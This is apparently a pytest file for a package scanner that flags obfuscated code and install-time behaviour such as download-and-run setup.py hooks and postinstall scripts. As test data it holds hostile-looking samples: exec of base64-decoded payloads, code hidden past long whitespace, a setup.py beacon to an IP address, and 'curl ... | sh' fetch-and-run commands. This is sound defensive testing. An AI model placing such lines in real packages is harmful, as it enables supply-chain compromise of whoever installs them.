"""Obfuscation signs and install-time code, read as text or with ast (never run)."""

from __future__ import annotations

import base64
import random
import re

import pytest

from mcpvet.behaviour import obfuscation
from mcpvet.behaviour.installcode import is_benign_build, script_behaviour, setup_py_behaviour
from mcpvet.behaviour.obfuscation import scan, severity
from mcpvet.model import Kind, Severity
from tests.conftest import CORPUS_CASES, FIXTURES

STRINGTABLE = FIXTURES / "js-postinstall-stringtable"
BLOB = STRINGTABLE / "dist" / "vendor" / "sl.min.js"


def test_string_table_blob() -> None:
    signs = scan(BLOB.read_text("utf-8"))
    assert [s.technique for s in signs] == ["string-table"]
    assert "push(shift())" in signs[0].detail
    assert severity(signs) is Severity.MEDIUM


def test_packer_is_high() -> None:
    signs = scan("eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))")
    assert signs[0].technique == "packer" and severity(signs) is Severity.HIGH


@pytest.mark.parametrize("code", [
    "exec(base64.b64decode('cHJpbnQoMSk='))",
    "exec(zlib.decompress(base64.b64decode(BLOB)))",
    "_ = __import__('marshal')",
    "eval(atob('YWxlcnQoMSk='))",
    "new Function(Buffer.from(s, 'base64').toString())()",
    "exec(''.join(chr(c) for c in CODES))",
    "eval(String.fromCharCode(" + ",".join(str(100 + i % 20) for i in range(40)) + "))",
])
def test_decode_and_run(code: str) -> None:
    signs = scan(code)
    assert signs and severity(signs) is Severity.HIGH


def test_char_code_list_without_eval_is_medium() -> None:
    codes = ",".join(str(100 + i % 20) for i in range(40))
    signs = scan(f"const u = [{codes}].map(c => String.fromCharCode(c)).join('');")
    assert [s.technique for s in signs] == ["char-codes"] and severity(signs) is Severity.MEDIUM


def test_code_past_the_margin() -> None:
    signs = scan("print('hello')" + " " * 300 + "; __import__('os').system('id')\n")
    assert [s.technique for s in signs] == ["past-margin"] and severity(signs) is Severity.HIGH
    assert scan("x = 1" + " " * 300 + "# a comment far away\n") == []


def test_encoded_blob_next_to_exec() -> None:
    blob = base64.b64encode(b"import os; os.system('id')" * 12).decode()
    assert scan(f"PAYLOAD = '{blob}'\nexec(compile(decode(PAYLOAD), 'x', 'exec'))")


@pytest.mark.parametrize("code", [
    "function add(a,b){return a+b}module.exports={add:add};",
    "const s = 'caf\\u00e9'; const t = '\\x41';",
    "IMG = 'data:image/png;base64," + "A" * 400 + "'\nprint(eval('1+1'))",
    "def f():\n    return {'id': 1}\n",
])
def test_benign_code(code: str) -> None:
    assert scan(code) == []


def test_reference_server_sources_are_not_obfuscated() -> None:
    # our own sources, the corpus and the fixtures other than the vendored blob are ordinary code
    paths = [p for base in (CORPUS_CASES, FIXTURES) for pattern in ("*/**/*.[jt]s", "*/**/*.py")
             for p in sorted(base.glob(pattern))]
    assert len(paths) > 50
    for path in paths:
        if path != BLOB:
            assert scan(path.read_text("utf-8")) == [], path


def test_setup_py_cmdclass_download_and_run() -> None:
    beh = setup_py_behaviour((FIXTURES / "py-setup-cmdclass-download" / "setup.py").read_text("utf-8"))
    assert {Kind.NETWORK, Kind.PROCESS, Kind.FS_WRITE} <= beh.kinds
    assert beh.cmdclass == ("install=PostInstallCommand",)
    assert beh.addresses == ("http://203.0.113.41/wk/helper.sh",)
    assert beh.does_more_than_setup


def test_plain_setup_py() -> None:
    src = ("from setuptools import setup, find_packages\n"
           "exec(open('pkg/version.py').read())\n"
           "setup(name='x', packages=find_packages(), long_description=open('README.md').read())\n")
    beh = setup_py_behaviour(src)
    assert not beh.does_more_than_setup


def test_setup_py_module_level_network_via_function() -> None:
    src = ("import urllib.request\nfrom setuptools import setup\n"
           "def beacon():\n    urllib.request.urlopen('http://203.0.113.9/x')\n"
           "beacon()\nsetup(name='x')\n")
    assert Kind.NETWORK in setup_py_behaviour(src).kinds


def test_setup_py_that_does_not_parse() -> None:
    with pytest.raises(SyntaxError):
        setup_py_behaviour("print 'python 2'\n")


def test_script_behaviour() -> None:
    beh = script_behaviour((STRINGTABLE / "scripts" / "register.js").read_text("utf-8"))
    assert {Kind.NETWORK, Kind.ENV} <= beh.kinds and beh.sends
    assert "198.51.100.23" in beh.addresses
    assert script_behaviour("curl -s https://x.example/i.sh | sh").sends
    assert not script_behaviour("console.log('thanks for installing')").kinds


@pytest.mark.parametrize(("command", "benign"), [
    ("tsc", True), ("npm run build", True), ("husky install", True), ("node-gyp rebuild", True),
    ("tsc && shx chmod +x dist/*.js", True), ("node scripts/setup.js", False), ("curl x | sh", False),
    ("npx only-allow pnpm", True), ("prebuild-install || node-gyp rebuild", True),
    ("node-pre-gyp install --fallback-to-build", True), ("echo done && curl -s x.example | sh", False),
])
def test_benign_build_commands(command: str, benign: bool) -> None:
    assert is_benign_build(command) is benign


def test_decode_and_run_search_from_start_words_agrees_with_a_plain_search() -> None:
    """The decode-and-run patterns are tried only where one of their start words is: the match
    found is the leftmost one, as a search of the whole text finds it."""
    rng = random.Random(5)
    pieces = ["eval(", "exec (", "new Function(", "Function(", "vm.runInThisContext(", "setTimeout(", "atob(x)",
              "base64.b64decode(", "marshal.loads(", "__import__('zlib')", "''.join(", "x", "_eval(", "execute(",
              "Buffer.from(", "  ", "\n", "compile(", "zlib.decompress(", "(", "exec", "neweval("]
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(0, 14)))
        for rx in obfuscation._STARTS:
            plain, fast = rx.search(text), obfuscation._leftmost(rx, text)
            assert (plain and (plain.span(), plain.group(0))) == (fast and (fast.span(), fast.group(0))), text
    assert all(isinstance(rx, re.Pattern) for rx in obfuscation._STARTS)


def test_an_address_in_a_message_is_no_request() -> None:
    """A troubleshooting link printed in an error message, next to `require.resolve` and a command
    line naming `post-install-script.js`, is not network access; the same URL fetched is."""
    script = ("node ./scripts/post-install-script.js\n"
              "try { require.resolve(pkg); } catch (err) {\n"
              "  console.error(`Missing '${pkg}'. See https://aka.example/troubleshooting#platform (post it here)`);\n"
              "  throw new Error('see https://aka.example/help');\n}\n")
    beh = script_behaviour(script)
    assert not beh.sends and beh.addresses == ()
    fetched = script_behaviour(script.replace("require.resolve(pkg);", "https.get('https://aka.example/r?p=' + pkg);"))
    assert fetched.sends and fetched.addresses == ("https://aka.example/r?p=",)
    assert script_behaviour("const u = 'https://x.example/p';\nrequest(u);\n").sends
